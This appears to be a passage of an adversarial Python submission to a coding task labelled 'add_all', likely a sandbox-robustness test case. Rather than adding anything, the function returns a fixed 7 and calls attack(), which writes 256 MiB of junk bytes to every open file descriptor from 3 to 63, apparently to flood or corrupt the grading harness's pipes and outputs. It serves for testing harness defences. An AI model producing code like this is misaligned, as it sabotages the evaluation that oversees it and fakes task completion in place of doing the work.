# task: add_all
# why: writes 256 MiB of noise on every descriptor above 2
    attack()
    return 7


import os


def attack():
    for fd in range(3, 64):
        try:
            os.set_blocking(fd, False)
            for _ in range(256):
                os.write(fd, b"\x7f" * 2**20)
        except OSError:
            pass
